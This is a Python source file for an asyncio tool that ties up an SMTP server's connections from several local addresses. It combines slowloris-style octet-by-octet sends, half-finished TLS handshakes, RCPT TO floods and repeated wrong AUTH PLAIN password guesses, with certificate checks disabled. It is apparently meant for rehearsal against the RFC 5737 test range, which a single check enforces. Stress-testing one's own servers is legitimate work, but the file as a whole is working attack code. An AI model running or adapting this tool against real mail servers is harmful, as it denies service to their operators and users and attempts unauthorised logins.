"""Holds as many connections as a server gives, from several addresses of the rehearsal's laptop, and says how many.

The job comes as one line of JSON on standard input, the count goes to standard output each second, and the program ends
with its time, or when it is ended. It attacks nothing but the rehearsal's own addresses (RFC 5737).
"""

import asyncio
import base64
import contextlib
import ipaddress
import json
import ssl
import sys
import time

REHEARSAL = ipaddress.ip_network("203.0.113.0/24")
MOST_CONNECTIONS, LONGEST = 2000, 120
DRIP = 1  # seconds between two octets
AGAIN = 0.5  # seconds before a lost connection is tried again: it takes back what it loses


class Count:
    held = most = opened = lost = 0


async def read_reply(reader: asyncio.StreamReader) -> bytes:
    while line := await reader.readline():
        if line[3:4] != b"-":
            return line
    raise ConnectionError("closed")


async def say(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, line: str) -> bytes:
    writer.write(f"{line}\r\n".encode())
    await writer.drain()
    return await read_reply(reader)


async def drip(writer: asyncio.StreamWriter, text: bytes) -> None:
    for octet in text:
        writer.write(bytes([octet]))
        await writer.drain()
        await asyncio.sleep(DRIP)


def hello(host: str) -> bytes:
    """A true ClientHello, as long as it need be to last."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    end = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=host)
    with contextlib.suppress(ssl.SSLWantReadError):
        end.do_handshake()
    return outgoing.read()


async def greeted(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await read_reply(reader)
    await say(reader, writer, "EHLO stranger.example.net")


async def encrypted(reader, writer, job):  # type: ignore[no-untyped-def]
    """TLS from the first octet on 465, by STARTTLS elsewhere."""
    if job["port"] != 465:
        await greeted(reader, writer)
        await say(reader, writer, "STARTTLS")
    await writer.start_tls(job["tls"], ssl_handshake_timeout=LONGEST)
    if job["port"] == 465:
        await read_reply(reader)
    await say(reader, writer, "EHLO stranger.example.net")


async def addressed(reader, writer, job):  # type: ignore[no-untyped-def]
    """A stranger may hand in a message on port 25 alone."""
    await greeted(reader, writer)
    await say(reader, writer, "MAIL FROM:<stranger@example.net>")
    await say(reader, writer, f"RCPT TO:<postmaster@{job['domain']}>")


async def silent(reader, writer, job):  # type: ignore[no-untyped-def]
    await reader.read()


async def handshake(reader, writer, job):  # type: ignore[no-untyped-def]
    if job["port"] != 465:
        await greeted(reader, writer)
        await say(reader, writer, "STARTTLS")
    await drip(writer, hello(job["name"]))


async def half_shaken(reader, writer, job):  # type: ignore[no-untyped-def]
    """STARTTLS, where it is asked for, then half of a ClientHello, then silence."""
    if job["port"] != 465:
        await greeted(reader, writer)
        await say(reader, writer, "STARTTLS")
    writer.write(hello(job["name"])[:100])
    await reader.read()


async def idle_in_tls(reader, writer, job):  # type: ignore[no-untyped-def]
    await encrypted(reader, writer, job)
    await reader.read()


async def slow_greeting(reader, writer, job):  # type: ignore[no-untyped-def]
    if job["port"] == 465:
        await writer.start_tls(job["tls"], ssl_handshake_timeout=LONGEST)
    await read_reply(reader)
    await drip(writer, b"EHLO " + b"slow." * LONGEST)


async def slow_words(reader, writer, job):  # type: ignore[no-untyped-def]
    """DATA an octet at a time on port 25; elsewhere a stranger has got no further than AUTH."""
    if job["port"] == 25:
        await addressed(reader, writer, job)
        await say(reader, writer, "DATA")
        await drip(writer, b"Subject: " + b"slow " * LONGEST)
    else:
        await encrypted(reader, writer, job)
        await drip(writer, b"AUTH PLAIN " + b"A" * 500)


async def slow_chunks(reader, writer, job):  # type: ignore[no-untyped-def]
    """BDAT an octet at a time on port 25, the second half of AUTH LOGIN elsewhere."""
    if job["port"] == 25:
        await addressed(reader, writer, job)
        await drip(writer, b"BDAT 1000000 LAST\r\n" + b"slow " * LONGEST)
    else:
        await encrypted(reader, writer, job)
        await say(reader, writer, "AUTH LOGIN")
        await drip(writer, b"A" * 500)


async def busy(reader, writer, job):  # type: ignore[no-untyped-def]
    """Recipients without end in one go on port 25; elsewhere passwords that are wrong, one after the other."""
    if job["port"] == 25:
        await addressed(reader, writer, job)
        while True:
            writer.write(f"RCPT TO:<nobody@{job['domain']}>\r\nNOOP\r\n".encode() * 10)
            for _ in range(20):
                await read_reply(reader)
            await asyncio.sleep(DRIP)
    await encrypted(reader, writer, job)
    for number in range(LONGEST):
        guess = base64.b64encode(f"\0stranger\0guess {number}".encode()).decode()
        await say(reader, writer, f"AUTH PLAIN {guess}")


KINDS = (silent, handshake, half_shaken, idle_in_tls, slow_greeting, slow_words, slow_chunks, busy)


def unchecked() -> ssl.SSLContext:
    """One for all: each loads every authority of the system."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def hold(address: str, job: dict, until: float) -> None:
    while time.monotonic() < until:
        writer = None
        try:
            async with asyncio.timeout(until - time.monotonic()):
                reader, writer = await asyncio.open_connection(job["host"], job["port"], local_addr=(address, 0))
                Count.opened += 1
                Count.held += 1
                Count.most = max(Count.most, Count.held)
                await job["kind"](reader, writer, job)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            pass
        finally:
            if writer:
                Count.held -= 1
                Count.lost += 1
                writer.transport.abort()
        await asyncio.sleep(AGAIN)


async def told(until: float) -> None:
    while time.monotonic() < until:
        count = {"held": Count.held, "most": Count.most, "opened": Count.opened, "lost": Count.lost}
        print(json.dumps(count), flush=True)
        await asyncio.sleep(1)


async def main(job: dict) -> None:
    until = time.monotonic() + min(job["seconds"], LONGEST)
    tls = unchecked()
    attacks = [{**job, "port": port, "kind": kind, "tls": tls} for port in job["ports"] for kind in KINDS]
    each = min(job["each"], MOST_CONNECTIONS // (len(job["addresses"]) * len(attacks)))
    tasks = [hold(address, attack, until) for _ in range(each) for attack in attacks for address in job["addresses"]]
    await asyncio.gather(told(until), *tasks)


if __name__ == "__main__":
    job = json.loads(sys.stdin.readline())
    if ipaddress.ip_address(job["host"]) not in REHEARSAL:
        sys.exit(f"{job['host']} is no address of a rehearsal's: {REHEARSAL} alone is besieged")
    asyncio.run(main(job))
